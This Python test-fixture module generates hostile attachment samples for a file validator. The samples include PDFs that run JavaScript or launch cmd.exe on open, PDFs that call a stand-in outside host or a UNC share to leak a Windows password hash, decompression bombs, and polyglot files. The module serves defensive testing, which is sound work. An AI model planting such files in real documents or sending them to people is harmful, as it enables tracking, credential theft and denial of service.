"""Files to be attached: genuine ones, and hostile ones that are named for their attack."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from datetime import datetime

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    EncodedStreamObject,
    NameObject,
    NumberObject,
    PdfObject,
    TextStringObject,
)

from adapter.gateways.store.attachments import AttachedFile
from adapter.model.attachment import Scan
from adapter.model.errors import Unavailable

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
"""The test string of scanners (EICAR, "Anti-Malware Testfile"); it does nothing."""


class Says:
    """A scanner that says what it is told to."""

    def __init__(self, threat: str | None = None, *, away: bool = False) -> None:
        self.said, self.away = threat, away
        self.asked = 0

    def threat(self, raw: bytes) -> str | None:
        del raw
        self.asked += 1
        if self.away:
            raise Unavailable("it is away")
        return self.said


def attached_files(text: str, at: datetime) -> tuple[AttachedFile, ...]:
    """Attached files in every state."""
    return tuple(
        AttachedFile(1, "5f" * 32, text, what, None, "declarant:1", at, "pdf", 182_044, scan.value, threat, at)
        for scan, threat in ((Scan.NOT_SCANNED, None), (Scan.CLEAN, None), (Scan.INFECTED, text))
        for what in ("K", None)
    )


def letter(text: str = "CÔNG VĂN TRẢ LỜI") -> bytes:
    """A genuine PDF of one page."""
    return _written(_of_one_page(), text)


def picture(kind: str = "PNG", size: tuple[int, int] = (60, 40)) -> bytes:
    """A genuine picture."""
    made = io.BytesIO()
    Image.new("RGB", size, (20, 90, 60)).save(made, kind)
    return made.getvalue()


def _of_one_page() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    return writer


def _written(writer: PdfWriter, title: str = "") -> bytes:
    writer.add_metadata({"/Title": title})
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def pdf_with_javascript() -> bytes:
    writer = _of_one_page()
    action = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject(action))
    return _written(writer)


def pdf_with_an_embedded_file() -> bytes:
    writer = _of_one_page()
    writer.add_attachment("a.exe", b"MZ")
    return _written(writer)


def pdf_that_launches() -> bytes:
    writer = _of_one_page()
    action = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})
    writer.root_object[NameObject("/OpenAction")] = action
    return _written(writer)


def _pdf_with(key: str, value: PdfObject, *, page: bool = False) -> bytes:
    writer = _of_one_page()
    (writer.pages[0] if page else writer.root_object)[NameObject(key)] = writer._add_object(value)
    return _written(writer)


def _named(**entries: PdfObject) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{key}"): value for key, value in entries.items()})


_CALLS = _named(S=NameObject("/URI"), URI=TextStringObject("http://elsewhere.invalid/read"))
"""An address that is called: where nobody clicks, it tells a stranger who has opened the file, and when."""


def pdf_that_calls_when_it_is_opened() -> bytes:
    return _pdf_with("/OpenAction", _CALLS)


def pdf_that_calls_after_it_was_opened() -> bytes:
    first = _named(S=NameObject("/GoTo"), D=ArrayObject([]), Next=ArrayObject([_CALLS]))
    return _pdf_with("/OpenAction", first)


def pdf_that_calls_when_a_page_is_shown() -> bytes:
    return _pdf_with("/AA", _named(O=_CALLS), page=True)


def pdf_whose_link_opens_a_file() -> bytes:
    """On Windows the name of a share makes the reader send his password's hash."""
    return _pdf_with("/A", _named(S=NameObject("/Thread"), F=TextStringObject("//elsewhere.invalid/share/a.pdf")))


def pdf_whose_page_is_in_another_file() -> bytes:
    return _with_object(
        b"<< /Subtype /Form /Ref << /F (//elsewhere.invalid/a.pdf) /Page 0 >> /Length 0 >>stream\n\nendstream"
    )


def pdf_whose_stream_is_in_another_file() -> bytes:
    return _with_object(b"<< /F (//elsewhere.invalid/share/a) /Length 0 >>stream\n\nendstream")


def pdf_that_opens_at_a_page() -> bytes:
    """Genuine: programs write so where and how large the first page is shown."""
    writer = _of_one_page()
    place = ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])
    writer.root_object[NameObject("/OpenAction")] = _named(S=NameObject("/GoTo"), D=place)
    writer.pages[0][NameObject("/Annots")] = ArrayObject([_named(Subtype=NameObject("/Link"), A=_CALLS)])
    return _written(writer)


def pdf_with_javascript_in_an_object_stream() -> bytes:
    """No name of an action stands in the file's own bytes."""
    inner = b"5 0 << /S /JavaScript /JS (1) >> "
    packed = zlib.compress(inner)
    head = f"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {len(packed)} >>"
    return _with_object(head.encode() + b"stream\n" + packed + b"\nendstream")


def pdf_with_a_name_in_escapes() -> bytes:
    return _with_object(b"<< /S /J#61vaScript /J#53 (1) >>")


def pdf_with_an_object_that_no_table_names() -> bytes:
    """A program that repairs a file finds it."""
    genuine = letter()
    return genuine.replace(b"\nxref", b"\n99 0 obj << /S /JavaScript /JS (1) >> endobj\nxref", 1)


def _with_object(text: bytes) -> bytes:
    """A PDF with one object more, at its place in the table."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        text,
    ]
    made, places = b"%PDF-1.5\n", []
    for number, body in enumerate(bodies, start=1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(bodies) + 1
    start = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % size + table
    return made + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, start)


def pdf_that_is_encrypted() -> bytes:
    writer = _of_one_page()
    writer.encrypt("secret", algorithm="RC4-128")
    return _written(writer)


def pdf_bomb() -> bytes:
    """A page whose content is 320 million spaces."""
    packing = zlib.compressobj(1)
    packed = b"".join(packing.compress(b" " * 4_000_000) for _ in range(80)) + packing.flush()
    return _with_object(b"<< /Filter /FlateDecode /Length %d >>stream\n%s\nendstream" % (len(packed), packed))


def pdf_bomb_packed_twice() -> bytes:
    """Some hundred bytes of which the first unpacking makes little."""
    packed = zlib.compress(zlib.compress(b" " * 50_000_000, 1), 9)
    head = b"<< /Filter [/FlateDecode /FlateDecode] /Length %d >>" % len(packed)
    return _with_object(head + b"stream\n" + packed + b"\nendstream")


def pdf_with_a_huge_picture() -> bytes:
    head = b"<< /Subtype /Image /Width 100000 /Height 100000 /Filter /CCITTFaxDecode /Length 4 >>"
    return _with_object(head + b"stream\nabcd\nendstream")


def pdf_nested_deeply() -> bytes:
    return _with_object(b"<< /A " + b"[" * 5000 + b"]" * 5000 + b" >>")


def pdf_that_is_a_zip() -> bytes:
    return _zipped(letter())


def pdf_with_something_behind_its_end() -> bytes:
    return letter() + b"MZ\x90\x00 program"


def pdf_cut_off() -> bytes:
    return letter()[:200]


def png_bomb() -> bytes:
    """A picture of 30,000 × 30,000 in a few kilobytes."""
    rows = zlib.compressobj(1)
    row = b"\x00" + b"\x00" * (30_000 // 8)
    packed = b"".join(rows.compress(row * 1000) for _ in range(30)) + rows.flush()
    return _png(struct.pack(">IIBBBBB", 30_000, 30_000, 1, 0, 0, 0, 0), packed)


def png_of_other_size_than_it_says() -> bytes:
    """It says 60 × 40 and holds the rows of 100 million."""
    packing = zlib.compressobj(1)
    packed = b"".join(packing.compress(b"\0" * 1_000_000) for _ in range(100)) + packing.flush()
    return _png(struct.pack(">IIBBBBB", 60, 40, 8, 2, 0, 0, 0), packed)


def png_with_a_text_that_inflates() -> bytes:
    text = b"Comment\0\0" + zlib.compress(b"a" * 20_000_000, 1)
    genuine = picture()
    head = genuine[:33]
    return head + _chunk(b"zTXt", text) + genuine[33:]


def _png(header: bytes, packed: bytes) -> bytes:
    chunks = _chunk(b"IHDR", header) + _chunk(b"IDAT", packed) + _chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunks


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_that_is_a_zip() -> bytes:
    return _zipped(picture())


def png_that_is_a_page() -> bytes:
    genuine = picture()
    return genuine[:33] + _chunk(b"tEXt", b"Comment\0<script>alert(1)</script>") + genuine[33:]


def jpeg_that_is_a_pdf() -> bytes:
    return picture("JPEG") + letter()


def jpeg_that_is_a_zip() -> bytes:
    return _zipped(picture("JPEG"))


def png_cut_off() -> bytes:
    return picture()[:-30]


def png_of_many_frames() -> bytes:
    made, frames = io.BytesIO(), [Image.new("RGB", (8, 8), (each, 0, 0)) for each in range(5)]
    frames[0].save(made, "PNG", save_all=True, append_images=frames[1:])
    return made.getvalue()


def _zipped(front: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("a.html", "<script>alert(1)</script>")
    return front + made.getvalue()


def genuine_pdf_with_a_scan() -> bytes:
    """As a scanner makes it: a page that is a JPEG, links and an outline beside it."""
    writer = _of_one_page()
    scan = EncodedStreamObject()
    scan._data = picture("JPEG", (1240, 1754))
    scan.update(
        {
            NameObject("/Type"): NameObject("/XObject"),
            NameObject("/Subtype"): NameObject("/Image"),
            NameObject("/Width"): NumberObject(1240),
            NameObject("/Height"): NumberObject(1754),
            NameObject("/Filter"): ArrayObject([NameObject("/DCTDecode")]),
        }
    )
    text = DecodedStreamObject()
    text.set_data(b"q 595 0 0 842 0 0 cm /S Do Q " * 2000)
    writer.pages[0][NameObject("/Contents")] = writer._add_object(text.flate_encode())
    writer._add_object(scan)
    writer.add_outline_item(title="Trang 1", page_number=0)
    return _written(writer, "Bản quét")


HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "javascript": ("a.pdf", pdf_with_javascript, "file_active"),
    "embedded file": ("a.pdf", pdf_with_an_embedded_file, "file_active"),
    "launch action": ("a.pdf", pdf_that_launches, "file_active"),
    "call when it is opened": ("a.pdf", pdf_that_calls_when_it_is_opened, "file_active"),
    "call after it was opened": ("a.pdf", pdf_that_calls_after_it_was_opened, "file_active"),
    "call when a page is shown": ("a.pdf", pdf_that_calls_when_a_page_is_shown, "file_active"),
    "link that opens a file": ("a.pdf", pdf_whose_link_opens_a_file, "file_active"),
    "page in another file": ("a.pdf", pdf_whose_page_is_in_another_file, "file_active"),
    "stream in another file": ("a.pdf", pdf_whose_stream_is_in_another_file, "file_active"),
    "javascript in an object stream": ("a.pdf", pdf_with_javascript_in_an_object_stream, "file_active"),
    "name in escapes": ("a.pdf", pdf_with_a_name_in_escapes, "file_active"),
    "object that no table names": ("a.pdf", pdf_with_an_object_that_no_table_names, "file_active"),
    "nested deeply": ("a.pdf", pdf_nested_deeply, "file_unreadable"),
    "encrypted": ("a.pdf", pdf_that_is_encrypted, "file_encrypted"),
    "pdf bomb": ("a.pdf", pdf_bomb, "file_inflates"),
    "pdf bomb packed twice": ("a.pdf", pdf_bomb_packed_twice, "file_inflates"),
    "huge picture in a pdf": ("a.pdf", pdf_with_a_huge_picture, "file_inflates"),
    "pdf cut off": ("a.pdf", pdf_cut_off, "file_unreadable"),
    "polyglot of pdf and zip": ("a.pdf", pdf_that_is_a_zip, "file_other_kind"),
    "polyglot of pdf and program": ("a.pdf", pdf_with_something_behind_its_end, "file_other_kind"),
    "png bomb": ("a.png", png_bomb, "file_inflates"),
    "png of another size than it says": ("a.png", png_of_other_size_than_it_says, ""),
    "text of a png that inflates": ("a.png", png_with_a_text_that_inflates, "file_inflates"),
    "polyglot of png and zip": ("a.png", png_that_is_a_zip, "file_other_kind"),
    "polyglot of png and page": ("a.png", png_that_is_a_page, "file_other_kind"),
    "polyglot of jpeg and pdf": ("a.jpg", jpeg_that_is_a_pdf, "file_other_kind"),
    "polyglot of jpeg and zip": ("a.jpg", jpeg_that_is_a_zip, "file_other_kind"),
    "png cut off": ("a.png", png_cut_off, "file_unreadable"),
    "png of many frames": ("a.png", png_of_many_frames, "file_unreadable"),
    "wrong extension: page": ("a.pdf", lambda: b"<html><script>alert(1)</script></html>", "file_other_kind"),
    "wrong extension: picture": ("a.pdf", picture, "file_other_kind"),
    "wrong extension: pdf": ("a.png", letter, "file_other_kind"),
    "wrong extension: jpeg": ("a.png", lambda: picture("JPEG"), "file_other_kind"),
    "program": ("a.png", lambda: b"MZ" + bytes(400), "file_other_kind"),
    "nothing": ("a.pdf", lambda: b"", "file_other_kind"),
}
"""Name of the attack → the file's name, its bytes, the finding; empty: it is taken, since it harms nobody."""
